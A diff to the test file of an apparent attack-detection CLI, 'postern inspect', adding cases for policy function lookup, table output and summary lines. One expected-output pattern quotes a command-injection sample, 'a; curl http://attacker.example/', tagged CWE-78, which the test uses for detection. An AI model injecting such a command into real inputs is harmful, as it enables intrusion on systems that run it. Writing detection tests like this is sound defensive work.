@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Readable } from 'node:stream';
@@ -20,6 +20,7 @@ const files = {
   'benign.json': '{\n  "name": "Tom & Jerry"\n}\n',
   'wrong.json': '{\n  "a": 1,\n  "b" 2\n}\n',
   'mixed.jsonl': `${JSON.stringify({ a: 'ok' })}\n{"a":\r\n\n${JSON.stringify(attack)}\r\n"x"`,
+  'kinds.jsonl': `${JSON.stringify(attack)}\n${readFileSync(new URL('../../../../fixtures/events/openwhisk/raw-http-web-action.json', import.meta.url), 'utf8').replace(/\n/g, '')}\n`,
   'clean.jsonl': '{"a":"x"}\n{"a":"y"}\n',
   'bytes.jsonl': Buffer.concat([Buffer.from('{"a":"x"}\n'), Buffer.from([0xff, 0xfe, 0x0a]), Buffer.from('{"a":"y"}\n')]),
   'bomb.json': JSON.stringify(bomb),
@@ -105,11 +106,24 @@ const rows: readonly {
     output: [one(1, 'certain', 'observe')],
   },
   {
+    name: 'a function that the policy does not name: its general settings hold, and that is said',
+    args: ['attack.json', '--policy', 'block.yaml', '--function', 'leniet'],
+    code: 1,
+    output: [one(1, 'certain', 'block')],
+    errors: /^postern inspect: note: block\.yaml has no function "leniet", so its general settings hold\. Did you mean "lenient"\?\n$/,
+  },
+  {
+    name: 'a function under a policy without functions',
+    args: ['attack.json', '--policy', 'modeless.yaml', '--function', 'any'],
+    code: 1,
+    output: [one(1, 'certain', 'observe')],
+  },
+  {
     name: 'a bomb is an attack, and the rest of it was not looked at',
     args: ['bomb.json'],
     code: 1,
     output: [
-      /"level":"certain","verdict":"observe","reason":"[^"]*\\"ratio\\", and onIncomplete is observe","incomplete":"ratio".*"class":"bomb"/,
+      /"level":"certain","verdict":"observe","reason":"certain, and [^"]*\\"ratio\\", and onIncomplete is observe","incomplete":"ratio".*"class":"bomb"/,
     ],
   },
   {
@@ -201,7 +215,20 @@ const rows: readonly {
     name: 'for a person',
     args: ['attack.json', '--format', 'table'],
     code: 1,
-    output: [/1 {2}unknown +certain +observe\n +cmdi \(CWE-78\), high: .*\n +event \$\.cmd\n/],
+    output: [/1 {2}unknown +certain +observe\n +cmdi \(CWE-78\), high: .*\n +event \$\.cmd\n +a; «curl http:\/\/attacker\.example\/»\n/],
+  },
+  {
+    name: 'lines for a person end in what they came to',
+    args: ['--jsonl', 'mixed.jsonl', '--format', 'table'],
+    code: 2,
+    output: [/\n3 events: 1 certain, 2 clean; 1 line unreadable\n$/],
+    errors: /mixed\.jsonl:2:6/,
+  },
+  {
+    name: 'columns are as wide as the longest name of a trigger',
+    args: ['--jsonl', 'kinds.jsonl', '--format', 'table'],
+    code: 1,
+    output: [/^ {4}1 {2}[a-z:-]{7,} +certain {5}observe\n(.*\n)+ {4}2 {2}[a-z:-]+ +none {8}allow\n2 events: 1 certain, 1 clean\n$/],
   },
   { name: 'an unknown format', args: ['--format', 'tabel'], code: 2, errors: /Did you mean "table"/ },
   { name: 'two files', args: ['a', 'b'], code: 2, errors: /one file too many/ },
